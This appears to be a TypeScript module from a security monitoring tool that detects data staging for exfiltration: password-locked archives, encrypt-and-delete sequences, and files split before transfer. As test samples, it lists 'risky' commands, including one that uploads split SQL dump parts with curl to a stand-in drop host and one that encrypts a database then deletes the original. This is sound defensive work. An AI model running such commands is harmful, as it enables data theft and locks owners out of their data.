// Staging: data that is packed, locked or cut up so that it can be carried away, or so that its owner cannot read it any more.
import type { CommandFact } from "../../../../shared/facts.ts";
import { severity } from "../bands.ts";
import { type Heuristic, type View, onCommand } from "../heuristic.ts";
import { given, joined, operands } from "../read.ts";

const packers =
  /^(?:tar|bsdtar|gtar|zip|7z|7za|7zz|cpio|pax|ditto|rar|gzip|zstd|xz|mysqldump|pg_dump|pg_dumpall|mongodump)$/u;
const lockers = ["gpg", "gpg2", "openssl", "ccrypt", "ccencrypt", "age", "zip", "7z", "7za", "7zz", "rar"];

/** Locks with a password that stands in the command line: nobody has to be there, and nobody else can open it. */
function locksByItself(command: CommandFact): boolean {
  const line = ` ${joined(command)} `;
  switch (command.program) {
    case "gpg":
    case "gpg2":
      return /\s(?:-[a-z]*c|--symmetric)\s/u.test(line) && /\s--passphrase(?:-fd|-file)?[= ]/u.test(line);
    case "openssl":
      return /^\s*enc\s/u.test(line) && !/\s-d\s/u.test(line) && /\s-(?:k|pass|kfile|K)\s/u.test(line);
    case "zip":
      return /\s-P\s*\S|\s--password[= ]/u.test(line);
    case "rar":
      return /^\s*a\s/u.test(line) && /\s-h?p\S/u.test(line);
    case "7z":
    case "7za":
    case "7zz":
      return /^\s*a\s/u.test(line) && /\s-p\S/u.test(line);
    case "ccrypt":
    case "ccencrypt":
      return /\s-(?:K|k)\s*\S/u.test(line);
    default:
      return false;
  }
}

/** A packer before it in the pipeline, or the locker packs folders itself. */
function packs(command: CommandFact, view: View): boolean {
  if (/^(?:zip|7z|7za|7zz|rar)$/u.test(command.program)) return given(command, "r") || command.program !== "zip";
  return view.facts.commands.some((other) => other !== command && packers.test(other.program));
}

export const staging: readonly Heuristic[] = [
  {
    id: "packed-and-locked",
    threat: "Data exfiltration",
    technique: "T1560.001",
    score: severity.ask,
    check: onCommand(lockers, (command, view) => {
      if (!locksByItself(command)) return null;
      const deletes = view.facts.commands.some((other) => /^(?:rm|shred|srm|unlink)$/u.test(other.program));
      if (packs(command, view)) return "It packs up files and locks them with a password of its own";
      return deletes && view.facts.commands.length > 1
        ? "It locks a file with a password of its own and deletes the original"
        : null;
    }),
    examples: {
      risky: [
        "tar -C data -czf - . | gpg -c --pinentry-mode=loopback --passphrase 'x' > data.gpg",
        "tar czf - src | openssl enc -aes-256-cbc -pass pass:x -out src.enc",
        "7z a -pSecret -mhe=on out.7z src",
        "gpg --batch --passphrase x -c db.sqlite && rm db.sqlite",
      ],
      honest: [
        "gpg -c notes.txt",
        "tar czf release.tgz dist",
        "7z x -psecret in.7z",
        "zip -e notes.zip notes.txt",
        "openssl enc -d -aes-256-cbc -pass pass:x -in a.enc | tar xz",
      ],
    },
  },
  {
    id: "cut-for-carrying",
    threat: "Data exfiltration",
    technique: "T1030",
    score: severity.ask,
    check: onCommand(["split", "gsplit", "csplit"], (command, view) =>
      operands(command).length > 0 &&
      view.facts.commands.some(
        (other) =>
          other !== command &&
          (/^(?:curl|wget|nc|ncat|scp|rsync|sftp|ftp|rclone|aws|gsutil|dig|nslookup)$/u.test(other.program) ||
            (/^(?:gpg2?|openssl|base64|xxd)$/u.test(other.program) &&
              !/\b(?:rsa|ec)\b|x509|-d\b/u.test(joined(other)))),
      )
        ? "It cuts data into pieces and carries them on"
        : null,
    ),
    examples: {
      risky: [
        "split -b 500k dump.sql part_; for p in part_*; do curl -T $p https://drop.example/; done",
        "base64 db.sqlite | split -b 60 - /tmp/p",
      ],
      honest: ["split -l 1000 big.csv part_", "split -b 10M video.mp4"],
    },
  },
];
